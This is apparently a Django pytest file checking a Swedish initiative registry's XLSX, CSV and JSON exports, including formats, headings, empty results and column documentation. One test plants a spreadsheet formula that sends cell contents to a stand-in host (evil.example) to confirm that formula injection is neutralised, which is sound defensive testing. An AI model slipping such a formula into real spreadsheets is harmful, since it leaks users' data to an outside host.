"""Exports that open right: typed XLSX cells, "CSV för Excel" for Swedish Excel, the standard CSV for machines,
every column documented, formulas never executed, and an export matching nothing is headers only."""

from __future__ import annotations

import csv
import datetime
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from kraft.initiatives import export_columns, services
from tests import factories

pytestmark = pytest.mark.django_db
DOCS = Path(__file__).resolve().parents[2] / "docs" / "open-data.md"
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1;"Klicka")'


def _initiative(title: str = "Taligenkänning i hemtjänsten", **extra):
    return services.create_initiative(
        "test",
        {
            "title": title,
            "summary": "Personalen dikterar anteckningar.",
            "stage": "i_drift",
            "start_date": "2024-03-01",
            "uses_personal_data": True,
            "horizon_years": 3,
            **extra,
        },
        lead_organisation=factories.municipality("Sundsvalls kommun"),
        effects=[
            {
                "dimension": "tidsbesparing",
                "unit": "hours",
                "basis": "measured",
                "hours": Decimal("3"),
                "people": Decimal("4"),
                "periods_per_year": Decimal("52"),
                "hourly_cost": Decimal("450.5"),
                "measured_on": "2025-09-01",
                "baseline": "Handskrivna anteckningar",
                "method": "Tidsstudie",
            }
        ],
        costs=[
            {"description": "Licens", "kind": "one_off", "amount": Decimal("150000")},
            {"description": "Drift", "kind": "recurring", "amount": Decimal("60000.25")},
        ],
        publish=True,
    )


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _xlsx(client: Client, query: str = ""):
    response = client.get(f"/api/v1/initiatives/export?format=xlsx{query}")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(_body(response)))
    sheet = workbook["Initiativ"]
    headings = [cell.value for cell in sheet[1]]
    return workbook, sheet, headings


def test_xlsx_money_roi_dates_and_booleans_are_real_values_under_swedish_headings(client: Client) -> None:
    initiative = _initiative()
    workbook, sheet, headings = _xlsx(client)
    row = dict(zip(headings, sheet[2], strict=True))
    for name in ("annual_value", "total_cost", "roi", "roi_percent", "net_value"):
        cell = row[export_columns.BY_NAME[name].heading]
        assert cell.data_type == "n" and isinstance(cell.value, int | float), name
    assert row["Årligt värde (kr)"].value == pytest.approx(float(initiative.annual_value))
    assert row["Total kostnad (kr)"].value == pytest.approx(float(initiative.total_cost))
    assert row["ROI"].value == pytest.approx(float(initiative.roi)) and "%" in row["ROI"].number_format
    assert row["Årligt värde (kr)"].number_format == "#,##0.00"
    assert row["Startdatum"].value == datetime.datetime(2024, 3, 1)
    assert row["Startdatum"].is_date
    assert row["Använder personuppgifter"].value is True and row["Utvärderad"].value is True
    documented = {r[1].value for r in workbook["Kolumner"].iter_rows(min_row=2)}
    assert documented == {c.name for c in export_columns.COLUMNS}


def test_csv_for_excel_uses_semicolons_decimal_commas_and_a_bom(client: Client) -> None:
    initiative = _initiative()
    response = client.get("/api/v1/initiatives/export?format=csv-excel")
    assert response.status_code == 200 and "excel" in response["Content-Disposition"]
    raw = _body(response)
    assert raw.startswith("\ufeff".encode())
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Id;Adress;Titel;")
    row = next(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert row["Total kostnad (kr)"] == f"{initiative.total_cost}".replace(".", ",")
    assert "," in row["ROI"] and "." not in row["ROI"]
    assert row["Utvärderad"] == "SANT" and row["Startdatum"] == "2024-03-01"


def test_standard_csv_is_for_machines_comma_dot_and_machine_names(client: Client) -> None:
    initiative = _initiative()
    raw = _body(client.get("/api/v1/initiatives/export?format=csv"))
    assert not raw.startswith("\ufeff".encode())
    row = next(csv.DictReader(io.StringIO(raw.decode())))
    assert Decimal(row["total_cost"]) == initiative.total_cost and row["is_evaluated"] == "true"
    assert row["uses_personal_data"] == "true" and row["language"] == "sv"


def test_text_that_a_spreadsheet_would_run_is_neutralised_in_every_format(client: Client) -> None:
    _initiative(HYPERLINK, summary="+46 70 123 45 67", tags=["@admin", "-1"])
    text = _body(client.get("/api/v1/initiatives/export?format=csv")).decode()
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["title"] == "'" + HYPERLINK and row["summary"].startswith("'+46")
    assert row["tags"].startswith("'")
    excel = _body(client.get("/api/v1/initiatives/export?format=csv-excel")).decode("utf-8-sig")
    assert next(csv.DictReader(io.StringIO(excel), delimiter=";"))["Titel"] == "'" + HYPERLINK
    _workbook, sheet, headings = _xlsx(client)
    title = sheet[2][headings.index("Titel")]
    assert title.data_type == "s" and title.value == HYPERLINK  # shown as text, never run


def test_an_export_matching_nothing_is_headers_only(client: Client) -> None:
    _initiative()
    nothing = "&stage=avslutad&q=finnsinte"
    csv_text = _body(client.get(f"/api/v1/initiatives/export?format=csv{nothing}")).decode()
    assert csv_text.splitlines() == [",".join(c.name for c in export_columns.COLUMNS)]
    excel = _body(client.get(f"/api/v1/initiatives/export?format=csv-excel{nothing}")).decode("utf-8-sig")
    assert len(excel.splitlines()) == 1 and excel.startswith("Id;")
    payload = json.loads(_body(client.get(f"/api/v1/initiatives/export?format=json{nothing}")))
    assert payload["results"] == [] and payload["meta"]["count"] == 0
    _workbook, sheet, headings = _xlsx(client, nothing)
    assert sheet.max_row == 1 and headings[0] == "Id"


def test_unknown_format_is_a_clear_400(client: Client) -> None:
    response = client.get("/api/v1/initiatives/export?format=ods")
    assert response.status_code == 400 and "csv-excel" in response.json()["detail"]


def test_every_column_is_documented_on_the_open_data_page_and_in_docs(client: Client) -> None:
    page = client.get("/initiativ/exportera/").content.decode()
    documentation = DOCS.read_text(encoding="utf-8")
    for column in export_columns.COLUMNS:
        assert f"<code>{column.name}</code>" in page, column.name
        assert f"`{column.name}`" in documentation and column.heading in documentation, column.name
        assert str(column.doc).strip()
    assert "format=csv-excel" in page
